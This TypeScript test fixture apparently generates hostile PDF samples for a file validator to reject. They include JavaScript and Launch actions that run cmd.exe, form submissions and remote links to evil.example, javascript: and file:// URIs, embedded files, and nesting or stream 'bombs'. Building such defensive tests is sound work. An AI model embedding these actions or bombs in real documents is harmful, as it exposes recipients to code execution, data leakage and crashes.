import { entryAt } from '#workflows/names.ts'
import { pdf, zipOf } from '../files.ts'
import type { Variant } from './checked.ts'
import { triggeredPdfs } from './pdf-triggers.ts'
import {
	fileWritings,
	type Objects,
	oddPackings,
	packed,
	plainTable,
	streamOf,
	wordWritings,
} from './pdf-writings.ts'

const latin = (text: string) => Buffer.from(text, 'latin1')
const actions: [action: string, reason: string][] = [
	['<< /S /JavaScript /JS (app.alert(1)) >>', 'active'],
	['<< /S /JavaScript /JS 9 0 R >>', 'active'],
	['<< /S /Launch /F (cmd.exe) >>', 'active'],
	['<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>', 'active'],
	['<< /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >>', 'active'],
	['<< /S /ImportData /F (a.fdf) >>', 'active'],
	['<< /S /Rendition /OP 0 /AN 9 0 R >>', 'active'],
	['<< /S /Movie /T (a) >>', 'active'],
	['<< /S /Sound /Sound 9 0 R >>', 'active'],
	['<< /S /RichMediaExecute /TA 9 0 R >>', 'active'],
	['<< /S /GoTo3DView /TA 9 0 R >>', 'active'],
	['<< /S /Named /N /SaveAs >>', 'active'],
	['<< /S 8 0 R /JX (a) >>', 'active'],
	['<< /S /GoToR /F (\\\\evil.example\\a.pdf) /D [0 /Fit] >>', 'badLink'],
	['<< /S /Thread /F (a.pdf) /D 0 >>', 'badLink'],
	['<< /S /GoToE /T << /R /C /N (a) >> >>', 'nested'],
	['<< /S /URI /URI (file:///c:/a.exe) >>', 'badLink'],
	['<< /S /URI /URI (javascript:alert\\(1\\)) >>', 'badLink'],
	['<< /S /URI /URI <6a6176617363726970743a61> >>', 'badLink'],
	['<< /S /URI /URI (\\146ile:a) >>', 'badLink'],
	['<< /S /URI /URI (ms-word:ofe|u|a) >>', 'badLink'],
	['<< /S /URI /URI 9 0 R >>', 'badLink'],
	['<< /S /GoTo /D [3 0 R /Fit] /Next << /S /Launch /F (a) >> >>', 'active'],
]
const annotations: [annotation: string, reason: string][] = [
	['<< /Subtype /FileAttachment /FS << /EF << /F 9 0 R >> >> >>', 'nested'],
	['<< /Subtype /RichMedia /RichMediaContent 9 0 R >>', 'active'],
	['<< /Subtype /3D /3DD 9 0 R >>', 'active'],
	['<< /Subtype /Movie /Movie << /F (a.mov) >> >>', 'active'],
	['<< /Subtype /Sound /Sound 9 0 R >>', 'active'],
	['<< /Subtype /Screen >>', 'active'],
]

type Place = (thing: string) => Objects
const base = (catalog = '', page = ''): Objects => ({
	1: `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
	2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
	3: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] ${page} >>`,
})
/** Places of an action, which readers run when the file opens, a page is shown or an object is clicked. */
const places: Record<string, Place> = {
	'what is done on opening': (action) => base(`/OpenAction ${action}`),
	'what is done on opening, elsewhere': (action) => ({ ...base('/OpenAction 11 0 R'), 11: action }),
	'what is done on closing': (action) => base(`/AA << /WC ${action} >>`),
	'what a page does': (action) => base('', `/AA << /O ${action} >>`),
	'a link on a page': (action) => ({
		...base('', '/Annots [11 0 R]'),
		11: `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>`,
	}),
	'a field of a form': (action) => ({
		...base('/AcroForm << /Fields [11 0 R] >>', '/Annots [11 0 R]'),
		11: `<< /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA << /K ${action} >> >>`,
	}),
	'an entry of the contents': (action) => ({
		...base('/Outlines 10 0 R'),
		10: '<< /First 11 0 R /Last 11 0 R /Count 1 >>',
		11: `<< /Title (a) /Parent 10 0 R /A ${action} >>`,
	}),
	'the list of scripts': (action) => base(`/Names << /JavaScript << /Names [(a) ${action}] >> >>`),
	'an object that nothing leads to': (action) => ({ ...base(), 11: action }),
}
const placeNames = Object.entries(places)
const writtenFiles = Object.entries(fileWritings)
const writtenWords = Object.entries(wordWritings)
const others = { 8: '/JavaScript', 9: '(a)' }
const [script, launch] = [actions[0]?.[0] ?? '', actions[2]?.[0] ?? '']

const actionVariants = [
	...placeNames.flatMap(([place, put]) =>
		writtenFiles.map(
			([writing, write]): Variant => [
				`a script in ${place}, in ${writing}`,
				latin(write(put(script))),
				'active',
			],
		),
	),
	...writtenWords.flatMap(([words, respell]) =>
		writtenFiles.map(
			([writing, write]): Variant => [
				`a program written ${words}, in ${writing}`,
				latin(write({ ...base(), 11: respell(launch) })),
				'active',
			],
		),
	),
	...actions.map(([action, reason], at): Variant => {
		const [place, put] = entryAt(placeNames, at % (placeNames.length - 2))
		const [writing, write] = entryAt(writtenFiles, at % writtenFiles.length)
		const [words, respell] = entryAt(writtenWords, at % 2)
		const objects = { ...others, ...put(respell(action)) }
		return [`${action} ${words} in ${place}, in ${writing}`, latin(write(objects)), reason]
	}),
	...annotations.flatMap(([annotation, reason]): Variant[] =>
		writtenFiles.map(([writing, write]) => [
			`${annotation} in ${writing}`,
			latin(write({ ...base('', '/Annots [11 0 R]'), 9: '(a)', 11: annotation })),
			reason,
		]),
	),
]

const catalogs: [entry: string, reason: string][] = [
	['/Names << /EmbeddedFiles << /Names [(a) 9 0 R] >> >>', 'nested'],
	['/Names << /EmbeddedFiles 9 0 R >>', 'nested'],
	['/AF [9 0 R]', 'nested'],
	['/Collection << /View /T >>', 'nested'],
	['/AcroForm << /XFA 9 0 R >>', 'active'],
	['/AcroForm << /Fields [] /XFA [(a) 9 0 R] >>', 'active'],
	['/URI << /Base (file:///c:/) >>', 'badLink'],
	['/Names << /JavaScript 9 0 R >>', 'active'],
]
const streams: [dictionary: string, reason: string][] = [
	['/F (https://evil.example/a)', 'linked'],
	['/F << /FS /URL /F (https://evil.example/a) >>', 'linked'],
	['/FFilter /FlateDecode', 'linked'],
	['/Type /XObject /Subtype /Form /Ref << /F (a.pdf) /Page 0 >>', 'linked'],
	['/Type /XObject /Subtype /Image /OPI << /2.0 << /F (a) >> >>', 'linked'],
	['/Type /XObject /Subtype /PS', 'active'],
	['/Type /XObject /Subtype /Form /Subtype2 /PS', 'active'],
	['/Type /EmbeddedFile', 'nested'],
	['/Subtype /U3D', 'active'],
]
const partVariants = [
	...catalogs.map(([entry, reason], at): Variant => {
		const [writing, write] = entryAt(writtenFiles, at % writtenFiles.length)
		return [`${entry} in ${writing}`, latin(write({ ...base(entry), 9: '(a)' })), reason]
	}),
	...streams.map(([dictionary, reason], at): Variant => {
		const [writing, write] = entryAt(writtenFiles, at % 4)
		return [
			`a stream with ${dictionary} in ${writing}`,
			latin(write({ ...base(), 9: streamOf(dictionary, 'a') })),
			reason,
		]
	}),
	...Object.entries(oddPackings).map(
		([how, write]): Variant => [
			`objects packed ${how}`,
			latin(write({ ...base(), 11: script })),
			'unreadable',
		],
	),
]

const good = plainTable(base())
const moved = (by: number) =>
	good.replace(/startxref\n(\d+)/, (_, at: string) => `startxref\n${Number(at) + by}`)
const table = good.indexOf('xref\n0 1')
const brokenVariants: Variant[] = [
	['a password', latin(good.replace('/Root', '/Encrypt 4 0 R /Root')), 'locked'],
	[
		'a password in an earlier revision',
		latin(fileWritings['an earlier revision']?.(base()).replace('/Root', '/Encrypt 4 0 R /Root') ?? ''),
		'locked',
	],
	['no end', latin(good.replace('%%EOF', '')), 'damaged'],
	['half of it', latin(good.slice(0, good.length / 2)), 'damaged'],
	['a table elsewhere', latin(moved(7)), 'damaged'],
	['a table far behind', latin(moved(1_000_000)), 'damaged'],
	['no table', latin(good.slice(0, table) + good.slice(good.indexOf('trailer'))), 'damaged'],
	[
		'a place that is not where an object begins',
		latin(good.replace(/0000000009 00000 n/, '0000000012 00000 n')),
		'damaged',
	],
	['a table that follows itself', latin(good.replace('/Root', `/Prev ${table} /Root`)), 'damaged'],
	['a page behind', latin(`${good}<html><script>`), 'twoFiles'],
	['an archive behind', Buffer.concat([pdf(), zipOf([{ name: 'a', content: 'a' }])]), 'twoFiles'],
	['a key twice', pdf('<< /S /Launch /S /URI >>'), 'unreadable'],
	['a dictionary without its end', pdf('<< /A [1 2'), 'unreadable'],
	['a word that is none', pdf('<< /A evil >>'), 'unreadable'],
	['lists in lists without end', pdf('['.repeat(100_000)), 'bomb'],
	['dictionaries in dictionaries without end', pdf('<</A'.repeat(5000) + '>>'.repeat(5000)), 'bomb'],
	['more values than a document has', pdf(`[${'1 '.repeat(1_100_000)}]`), 'bomb'],
	[
		'packed objects without bounds',
		pdf(packed('/Type /ObjStm /N 1 /First 4', ' '.repeat(51 * 1024 * 1024))),
		'bomb',
	],
	[
		'a table without bounds',
		pdf(packed('/Type /XRef /W [1 1 1] /Size 9', '\0'.repeat(51 * 1024 * 1024))),
		'bomb',
	],
	[
		'packed objects that are broken',
		pdf('<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 1 >>\nstream\nx\nendstream'),
		'damaged',
	],
	['packed objects beyond their stream', pdf(packed('/Type /ObjStm /N 1 /First 4', '1 99')), 'damaged'],
	['objects in objects without end', pdf('1 0 obj('.repeat(9000) + ')'.repeat(9000)), 'bomb'],
]

/** Rejected PDFs, each with its hidden content, place and notation. */
export const hostilePdfs: Variant[] = [
	...actionVariants,
	...partVariants,
	...brokenVariants,
	...triggeredPdfs,
]
